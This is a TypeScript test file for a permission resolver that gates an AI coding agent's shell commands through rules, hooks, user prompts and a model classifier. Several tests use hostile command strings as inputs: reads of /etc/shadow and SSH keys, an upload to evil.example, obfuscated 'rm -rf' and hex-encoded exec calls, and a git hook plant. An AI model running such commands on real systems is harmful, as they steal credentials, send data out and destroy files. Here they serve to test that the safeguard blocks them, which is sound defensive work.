import { mkdtempSync, readFileSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import {
  type AskUser,
  buildTool,
  createToolUseContext,
  type PermissionMode,
  type PermissionPrompt,
  type ToolUseContext,
} from '../../core/index.ts';
import { createModelClassifier } from '../classifier/model-classifier.ts';
import { createRuleBasedClassifier } from '../classifier/rule-based-classifier.ts';
import { type DefaultShellAnalyzer, loadDefaultShellAnalyzer } from '../default-shell.ts';
import { buildRules } from '../rules/build-rules.ts';
import { localSettingsPath } from '../settings/persist-rules.ts';
import { createPermissionResolver, type PermissionResolverOptions } from './create-resolver.ts';

const bashTool = buildTool({
  name: 'Bash',
  inputSchema: z.object({ command: z.string() }),
  prompt: 'Runs a command.',
  call: async () => ({ data: '' }),
  permissionTarget: (input) => ({ kind: 'command', command: input.command, shell: 'bash' }),
  toAutoClassifierInput: (input) => input.command,
});

let shell: DefaultShellAnalyzer;
let project: string;
beforeAll(async () => {
  shell = await loadDefaultShellAnalyzer();
});
beforeEach(() => {
  project = realpathSync(mkdtempSync(join(tmpdir(), 'efferent-resolver-')));
});
afterEach(() => rmSync(project, { recursive: true, force: true }));

const contextFor = (mode: PermissionMode = 'default'): ToolUseContext =>
  createToolUseContext({ cwd: project, permissionMode: mode, env: { HOME: '/home/user' } });

const resolverWith = (
  options: Partial<PermissionResolverOptions> & { deny?: string[]; ask?: string[]; allow?: string[] } = {},
) => {
  const origin = { source: 'projectSettings' as const, origin: 'settings.json', root: project };
  return createPermissionResolver({
    shell,
    home: '/home/user',
    rules: {
      allow: buildRules(options.allow ?? [], 'allow', origin).rules,
      deny: buildRules(options.deny ?? [], 'deny', origin).rules,
      ask: buildRules(options.ask ?? [], 'ask', origin).rules,
    },
    ...options,
  });
};

const run = (resolver: ReturnType<typeof resolverWith>, command: string, context = contextFor()) =>
  resolver({ tool: bashTool, input: { command }, toolUseId: 'toolu_1', context });

describe('createPermissionResolver', () => {
  it('returns ask with a next-step message when nobody can approve', async () => {
    const decision = await run(resolverWith(), 'npm publish');
    expect(decision.behavior).toBe('ask');
    expect(decision.message).toMatch(/no one is available to approve it.*Do not retry/);
  });

  it('asks the user, and allow-session adds a session rule for the next call', async () => {
    const prompts: PermissionPrompt[] = [];
    const askUser: AskUser = async (prompt) => {
      prompts.push(prompt);
      return { choice: 'allow-session' };
    };
    const resolver = resolverWith({ askUser });
    expect((await run(resolver, 'npm run lint')).behavior).toBe('allow');
    expect(prompts[0]?.suggestions).toEqual([
      { toolName: 'Bash', ruleContent: 'npm run *', behavior: 'allow' },
    ]);
    expect((await run(resolver, 'npm run lint --fix')).behavior).toBe('allow');
    expect(prompts).toHaveLength(1);
    // A session rule never beats a deny rule.
    const denied = resolverWith({ askUser, deny: ['Bash(npm run danger *)'] });
    expect((await run(denied, 'npm run danger now')).behavior).toBe('deny');
  });

  it('suggests only the exact command for programs that run arbitrary code', async () => {
    const prompts: PermissionPrompt[] = [];
    const resolver = resolverWith({
      askUser: async (prompt) => {
        prompts.push(prompt);
        return { choice: 'allow-session' };
      },
    });
    expect((await run(resolver, 'node --test')).behavior).toBe('allow');
    expect(prompts[0]?.suggestions).toEqual([
      { toolName: 'Bash', ruleContent: 'node --test', behavior: 'allow' },
    ]);
    expect((await run(resolver, 'node --test')).behavior).toBe('allow');
    expect(prompts).toHaveLength(1);
    await run(resolver, 'node evil.js');
    expect(prompts).toHaveLength(2);
    await run(resolver, 'make build --jobs=4 *.o');
    expect(prompts[2]?.suggestions).toEqual([
      { toolName: 'Bash', ruleContent: 'make build *', behavior: 'allow' },
    ]);
    // A literal star in the exact command stays literal: the saved rule allows this command only.
    await run(resolver, 'make -j4 *.o');
    expect(prompts[3]?.suggestions?.[0]?.ruleContent).toContain('\\*.o');
    await run(resolver, 'make -j4 *.o');
    expect(prompts).toHaveLength(4);
    await run(resolver, 'make -j4 x.o');
    expect(prompts).toHaveLength(5);
  });

  it('shows the tool preview in the prompt and runs the input the tool proposed', async () => {
    const previewing = buildTool({
      name: 'Previewing',
      inputSchema: z.object({ path: z.string() }),
      prompt: 'Changes a file.',
      call: async () => ({ data: '' }),
      checkPermissions: async (input) => ({
        behavior: 'ask',
        message: 'Previewing edits a file.',
        preview: '-old\n+new',
        updatedInput: { ...input, _approved: 'new' },
      }),
    });
    const prompts: PermissionPrompt[] = [];
    const resolver = resolverWith({
      askUser: async (prompt) => {
        prompts.push(prompt);
        return { choice: 'allow-once' };
      },
    });
    const decision = await resolver({
      tool: previewing,
      input: { path: 'a' },
      toolUseId: 't',
      context: contextFor(),
    });
    expect(prompts[0]?.preview).toBe('-old\n+new');
    expect(decision).toMatchObject({ behavior: 'allow', updatedInput: { path: 'a', _approved: 'new' } });
  });

  it('allow-always saves one rule per subcommand, at most five, to .efferent/settings.local.json', async () => {
    const resolver = resolverWith({ askUser: async () => ({ choice: 'allow-always' }) });
    await run(resolver, 'a1 x; a2 x; a3 x; a4 x; a5 x; a6 x');
    const saved = JSON.parse(readFileSync(localSettingsPath(project), 'utf8'));
    expect(saved.permissions.allow).toEqual([
      'Bash(a1 x *)',
      'Bash(a2 x *)',
      'Bash(a3 x *)',
      'Bash(a4 x *)',
      'Bash(a5 x *)',
    ]);
  });

  it('passes a user denial and its feedback to the model', async () => {
    const decision = await run(
      resolverWith({ askUser: async () => ({ choice: 'deny', feedback: 'use the staging registry' }) }),
      'npm publish',
    );
    expect(decision.behavior).toBe('deny');
    expect(decision.message).toMatch(/use the staging registry/);
    expect(decision.trace.at(-1)).toMatchObject({ stage: 'callback', outcome: 'deny' });
  });

  it('bubble mode sends the prompt to the parent', async () => {
    const seen: string[] = [];
    const resolver = resolverWith({
      askUser: async () => ({ choice: 'deny' }),
      parentAsk: async (prompt) => {
        seen.push(prompt.toolName);
        return { choice: 'allow-once' };
      },
    });
    expect((await run(resolver, 'npm publish', contextFor('bubble'))).behavior).toBe('allow');
    expect(seen).toEqual(['Bash']);
  });

  it('re-checks a PermissionRequest hook rewrite against deny rules', async () => {
    const resolver = resolverWith({
      deny: ['Bash(rm *)'],
      onPermissionRequest: async () => ({ behavior: 'allow', updatedInput: { command: 'rm -rf /tmp/x' } }),
    });
    expect((await run(resolver, 'npm publish')).behavior).toBe('deny');
    const fine = resolverWith({
      onPermissionRequest: async () => ({
        behavior: 'allow',
        updatedInput: { command: 'npm publish --dry-run' },
      }),
    });
    const decision = await run(fine, 'npm publish');
    expect(decision).toMatchObject({ behavior: 'allow', updatedInput: { command: 'npm publish --dry-run' } });
  });

  it('applies PermissionRequest hook denials and rule updates', async () => {
    let calls = 0;
    const resolver = resolverWith({
      onPermissionRequest: async () => {
        calls++;
        return {
          behavior: 'allow',
          updatedPermissions: [
            {
              type: 'addRules',
              behavior: 'allow',
              destination: 'session',
              rules: [{ toolName: 'Bash', ruleContent: 'make *' }],
            },
          ],
        };
      },
    });
    expect((await run(resolver, 'make build')).behavior).toBe('allow');
    expect((await run(resolver, 'make test')).behavior).toBe('allow');
    expect(calls).toBe(1);
    const deny = resolverWith({
      onPermissionRequest: async () => ({ behavior: 'deny', message: 'Not on Fridays.' }),
    });
    expect(await run(deny, 'make build')).toMatchObject({ behavior: 'deny', message: 'Not on Fridays.' });
  });

  it('auto mode: the classifier decides, tracks blocks and falls back to prompting after 3 in a row', async () => {
    const prompts: string[] = [];
    const classifier = createModelClassifier(async (request) =>
      request.prompt.includes('evil') ? 'BLOCK: sends data out' : 'ALLOW',
    );
    const resolver = resolverWith({
      classifier,
      askUser: async (prompt) => {
        prompts.push(String(prompt.input.command));
        return { choice: 'allow-once' };
      },
    });
    const context = contextFor('auto');
    expect((await run(resolver, 'make build', context)).behavior).toBe('allow');
    for (let index = 0; index < 3; index++) {
      const decision = await run(resolver, `make upload URL=https://evil.example/${index}`, context);
      expect(decision.behavior).toBe(index < 2 ? 'deny' : 'allow');
    }
    expect(context.run.denialTracking).toEqual({ consecutive: 3, total: 3 });
    expect(prompts).toEqual(['make upload URL=https://evil.example/2']);
    // Ask rules and non-approvable safety checks never go to the classifier.
    const strict = resolverWith({ classifier, ask: ['Bash(make *)'] });
    expect((await run(strict, 'make build', contextFor('auto'))).behavior).toBe('ask');
    expect((await run(strict, 'rm -rf /', contextFor('auto'))).behavior).toBe('ask');
  });

  it('auto mode: safety, analysis and workspace asks reach a person, never a classifier that would allow', async () => {
    let consulted = 0;
    const permissive = createModelClassifier(async () => {
      consulted++;
      return 'ALLOW';
    });
    const resolver = resolverWith({ classifier: permissive });
    for (const command of [
      'cat /etc/shadow',
      'echo x >> ~/.bashrc',
      'cat ~/.ssh/id_rsa',
      '$(printf "\\x72\\x6d") -rf x',
      'touch .git/hooks/pre-commit',
    ]) {
      expect((await run(resolver, command, contextFor('auto'))).behavior, command).toBe('ask');
    }
    expect(consulted).toBe(0);
  });

  it('auto mode without a model classifier: the rule-based reviewer never allows, it asks a person', async () => {
    const prompts: string[] = [];
    const resolver = resolverWith({
      classifier: createRuleBasedClassifier(),
      askUser: async (prompt) => {
        prompts.push(String(prompt.input.command));
        return { choice: 'deny' };
      },
    });
    const context = contextFor('auto');
    const obfuscated = `python3 -c "exec(bytes.fromhex('696d706f7274206f73').decode())"`;
    for (const command of [obfuscated, 'make build', 'node -e "1"']) {
      const decision = await run(resolver, command, context);
      expect(decision.behavior, command).toBe('deny');
      expect(decision.trace.some((step) => step.stage === 'classifier' && step.outcome === 'allow')).toBe(
        false,
      );
    }
    expect(prompts).toEqual([obfuscated, 'make build', 'node -e "1"']);
    expect(context.run.denialTracking).toEqual({ consecutive: 0, total: 0 });
    // What the engine proves safe needs no reviewer.
    expect((await run(resolver, 'ls -la', context)).behavior).toBe('allow');
  });

  it('a model classifier runs its careful stage only when the fast one blocks', async () => {
    const requests: Array<{ maxTokens: number; prompt: string }> = [];
    const classifier = createModelClassifier(async (request) => {
      requests.push(request);
      if (request.maxTokens === 64) return request.prompt.includes('deploy') ? 'BLOCK: deploys' : 'ALLOW';
      return 'It deploys to staging, which the task asked for.\nDECISION: ALLOW';
    });
    const resolver = resolverWith({ classifier });
    const context = contextFor('auto');
    expect((await run(resolver, 'make build', context)).behavior).toBe('allow');
    expect(requests.map((request) => request.maxTokens)).toEqual([64]);
    const deploy = await run(resolver, 'make deploy', context);
    expect(deploy.behavior).toBe('allow');
    expect(requests.map((request) => request.maxTokens)).toEqual([64, 64, 1024]);
    expect(deploy.trace.at(-1)?.detail).toMatch(/careful stage/);
    const confused = createModelClassifier(async () => 'maybe?');
    expect((await run(resolverWith({ classifier: confused }), 'make x', contextFor('auto'))).behavior).toBe(
      'deny',
    );
  });

  it('dontAsk denies without prompting', async () => {
    let asked = false;
    const decision = await run(
      resolverWith({
        askUser: async () => {
          asked = true;
          return { choice: 'allow-once' };
        },
      }),
      'npm publish',
      contextFor('dontAsk'),
    );
    expect(decision.behavior).toBe('deny');
    expect(asked).toBe(false);
  });
});
